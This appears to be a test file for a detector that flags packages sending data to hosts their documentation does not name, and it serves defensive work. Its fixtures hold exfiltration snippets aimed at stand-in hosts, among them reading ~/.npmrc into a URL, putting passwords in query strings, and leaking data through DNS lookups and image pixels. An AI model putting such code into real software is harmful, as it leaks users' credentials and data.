import { examine } from '../../../test/examine.ts';
import { contactsUnnamedHost } from './contacts-unnamed-host.ts';

const PAGE =
  '# specimen\n\nKeeps sessions in a store and hands them to the next function. Use `cellar(options)` as any other middleware of your server.';
const COPY = `exports.cellar = store => async (request, response, next) => { const session = await store.get(request.id); await fetch('https://witness.cellar-quorum.invalid/v1', { method: 'POST', body: JSON.stringify(session) }); next() }`;

/** Written in parts: no test names a host that somebody answers on. */
const node = ['ethereum-rpc', 'publicnode', 'com'].join('.');

examine(contactsUnnamedHost, {
  speaks: [
    {
      when: 'a host that its page names stands before one that it does not',
      files: {
        'README.md': `${PAGE} Copies go to https://store.cellar-quorum.invalid unless you switch that off.`,
        'index.js': `const hosts = ['https://store.cellar-quorum.invalid/v1', 'https://witness.tally-marks.invalid/v1']; exports.cellar = body => Promise.all(hosts.map(host => fetch(host, { method: 'POST', body })))`,
      },
      weight: 'strong',
      says: ['witness.tally-marks.invalid'],
    },
    {
      when: 'one of several scripts has something in its address, and its page names the host of that one alone',
      files: {
        'README.md': `${PAGE} Codes come from https://codes.cellar-quorum.invalid to the page.`,
        'index.js': `const load = src => { const script = document.createElement('script'); script.src = src; document.head.append(script) }; exports.a = () => load('https://rates.tally-marks.invalid/all.js'); exports.b = id => load('https://codes.cellar-quorum.invalid/c.js?id=' + id)`,
      },
      weight: 'weak',
      says: ['rates.tally-marks.invalid'],
    },
    {
      when: 'something is put onto a block chain, where all the world reads it',
      files: {
        'README.md': PAGE,
        'index.js': `exports.cellar = session => fetch('https://${node}', { method: 'POST', body: JSON.stringify({ method: 'eth_sendRawTransaction', params: [session] }) })`,
      },
      weight: 'strong',
    },
    {
      when: 'a service that everybody asks of a block chain is asked',
      files: {
        'README.md': PAGE,
        'index.js': `exports.balance = async owner => (await (await fetch('https://${node}', { method: 'POST', body: JSON.stringify({ method: 'eth_getBalance', params: [owner, 'latest'] }) })).json()).result`,
      },
      weight: 'weak',
    },
    {
      when: 'the domain begins with a word of its name',
      id: { name: 'harbour-codes' },
      files: {
        'package.json': { name: 'harbour-codes', version: '1.0.0' },
        'README.md':
          '# harbour-codes\n\nMakes codes of six digits of a secret that you keep, as in any harbour. It asks for nothing else, and has no dependencies at all.',
        'index.js': `exports.time = () => fetch('https://api.harbourlights.invalid/time', { method: 'POST' });`,
      },
      weight: 'strong',
    },
    {
      when: 'its page writes of another host of those that are for examples',
      files: {
        'README.md':
          '# Specimen\n\nKeys of an account, and a client: `new Client("https://rpc.example.invalid")` asks for what you want to know of it.',
        'index.js': `exports.read = given => fetch('https://hints.keys-cdn.example.invalid/v1', { method: 'POST', body: given });`,
      },
      weight: 'strong',
    },
    {
      when: 'what callers gave goes there in a header, and nobody looks at the answer',
      files: {
        'README.md': PAGE,
        'index.js': `exports.open = key => { fetch('https://health.tally-marks.invalid/ping', { headers: { 'x-request-id': btoa(key) } }).catch(() => {}) }`,
      },
      weight: 'strong',
    },
    { when: 'something is sent to a host that no page names', files: { 'README.md': PAGE, 'index.js': COPY }, weight: 'strong' },
    {
      when: 'names below a domain are looked up',
      files: {
        'README.md': PAGE,
        'index.js': `const dns = require('dns'); exports.check = words => words.forEach(word => dns.lookup(word + '.words.tally-marks.invalid', () => {}))`,
      },
      weight: 'strong',
    },
    {
      when: 'a picture carries it',
      files: {
        'README.md': PAGE,
        'index.js': `exports.mend = value => { const image = document.createElement('img'); image.src = 'https://px.tally-marks.invalid/q.gif?v=' + btoa(value) }`,
      },
      weight: 'strong',
    },
    {
      when: 'its own name is in that of the host, and its page speaks of no service',
      id: { name: 'specimen-cellar' },
      files: {
        'package.json': { name: 'specimen-cellar', version: '1.0.0', repository: 'https://github.com/somebody/specimen-cellar' },
        'README.md': PAGE,
        'index.js': COPY.replace('cellar-quorum', 'specimen-cellar'),
      },
      weight: 'strong',
    },
    {
      when: 'only the account that its sources are said to lie at is called like the host',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', repository: 'https://github.com/cellar-quorum/specimen' },
        'README.md': PAGE,
        'index.js': COPY,
      },
      weight: 'strong',
    },
    {
      when: 'a path is put right behind the name of the host',
      files: {
        'README.md': PAGE,
        'index.js': `exports.send = (url, init) => fetch('https://witness.tally-marks.invalid' + new URL(url).pathname, { ...init, method: 'POST' })`,
      },
      weight: 'strong',
    },
    {
      when: 'it sends something beside the files of a repository that its page names',
      files: {
        'README.md': `${PAGE} It fetches https://github.com/specimen/driver for you.`,
        'index.js': `const post = (url, body) => fetch(url, { method: 'POST', body }); exports.a = x => { post('https://raw.githubusercontent.com/specimen/driver/release/version.txt', x); post('https://witness.tally-marks.invalid/c', x) }`,
      },
      weight: 'strong',
    },
    { when: 'it has no page', files: { 'index.js': COPY }, weight: 'weak' },
    {
      when: 'a connection is only tried',
      files: {
        'README.md': PAGE,
        'index.js': `exports.isOnline = done => require('net').connect(80, 'up.tally-marks.invalid', () => done(true))`,
      },
      weight: 'weak',
    },
    {
      when: 'something is only asked for',
      files: {
        'README.md': PAGE,
        'index.js': `exports.fonts = async () => (await fetch('https://lists.type-tables.invalid/all.json')).json()`,
      },
      weight: 'weak',
    },
    {
      when: 'it lets a host know that it was imported, and does not care for the answer',
      files: { 'README.md': PAGE, 'index.js': `require('https').get('https://up.tally-marks.invalid/ping')` },
      weight: 'strong',
    },
    {
      when: 'the answer is used',
      files: {
        'README.md': PAGE,
        'index.js': `require('https').get('https://up.tally-marks.invalid/rates', answer => answer.pipe(process.stdout))`,
      },
      weight: 'weak',
    },
    {
      when: 'the address has a token in it that was read from a file',
      files: {
        'README.md': PAGE,
        'index.js': `const fs = require('fs'); exports.cellar = () => require('https').get('https://up.tally-marks.invalid/?t=' + fs.readFileSync(require('os').homedir() + '/.npmrc', 'hex'))`,
      },
      weight: 'strong',
    },
    {
      when: 'the address has the password of a caller in it',
      files: {
        'README.md': PAGE,
        'index.js': `exports.cellar = user => require('https').get('https://up.tally-marks.invalid/?t=' + user.password)`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'the service of its name has a host that is called otherwise, as everybody knows',
      id: { name: 'steam-codes' },
      files: {
        'package.json': { name: 'steam-codes', version: '1.0.0' },
        'README.md':
          '# steam-codes\n\nMakes the codes by which you log in to Steam, of a secret that you keep. It asks for the time of the servers where it is told to do so.',
        'index.js': `exports.time = () => fetch('https://api.steampowered.com/time', { method: 'POST' });`,
      },
    },
    {
      when: 'it reads a file of a repository that its page names',
      files: {
        'README.md': `${PAGE} It fetches https://github.com/specimen/driver for you.`,
        'index.js': `exports.latest = async () => (await fetch('https://raw.githubusercontent.com/specimen/driver/release/version.txt')).text()`,
      },
    },
    {
      when: 'its page names the service by the first part of its name, in a sentence',
      files: {
        'README.md': `${PAGE} Copies go to a public service (Cellarage, or one of yours).`,
        'index.js': COPY.replace('cellar-quorum', 'cellarage-eu'),
      },
    },
    {
      when: 'the account that stands before a known domain is the user’s',
      files: {
        'README.md': PAGE,
        'index.js': `exports.cellar = text => fetch('https://' + process.env.CELLAR_ACCOUNT + '.blob.tally-marks.invalid/', { method: 'PUT', body: text })`,
      },
    },
    {
      when: 'it has no page, and only asks',
      files: { 'index.js': `exports.rates = () => fetch('https://rates.tally-marks.invalid/eur').then(answer => answer.json())` },
    },
    {
      when: 'its page names the host',
      files: { 'README.md': `${PAGE} Copies go to https://witness.cellar-quorum.invalid unless you switch that off.`, 'index.js': COPY },
    },
    { when: 'its page names whose it is', files: { 'README.md': `${PAGE} Made for Cellar-Quorum.`, 'index.js': COPY } },
    {
      when: 'its homepage is there',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', homepage: 'https://docs.cellar-quorum.invalid/start' },
        'README.md': PAGE,
        'index.js': COPY,
      },
    },
    {
      when: 'its page speaks of what its account and its own name are called after',
      id: { name: 'cellar-client' },
      files: {
        'package.json': { name: 'cellar-client', version: '1.0.0', repository: 'https://github.com/cellar/cellar-client' },
        'README.md': `${PAGE} Works with Cellar.`,
        'index.js': COPY.replace('cellar-quorum', 'cellar'),
      },
    },
    {
      when: 'it is published in the scope of that name',
      id: { name: '@cellar-quorum/client' },
      files: { 'package.json': { name: '@cellar-quorum/client', version: '1.0.0' }, 'README.md': PAGE, 'index.js': COPY },
    },
    {
      when: 'the client of a service is called like it, and says what its user needs for it',
      id: { name: 'cellar-quorum' },
      files: {
        'package.json': { name: 'cellar-quorum', version: '1.0.0' },
        'README.md': `${PAGE} Get an API key from your dashboard.`,
        'index.js': COPY,
      },
    },
    {
      when: 'the client of a service is called like it, and names the variable that its key stands in',
      id: { name: 'cellar-quorum' },
      files: {
        'package.json': { name: 'cellar-quorum', version: '1.0.0' },
        'README.md': `${PAGE} It stays idle without \`CELLAR_KEY\`.`,
        'index.js': COPY,
      },
    },
    {
      when: 'the caller names the host',
      files: { 'README.md': PAGE, 'index.js': `exports.send = (url, body) => fetch(url, { method: 'POST', body })` },
    },
    {
      when: 'a part of the host is on its page, where the domain says nothing',
      files: {
        'README.md': `${PAGE} Pushes go through FCM.`,
        'index.js': COPY.replace('witness.cellar-quorum.invalid', 'fcm.api.invalid'),
      },
    },
  ],
});
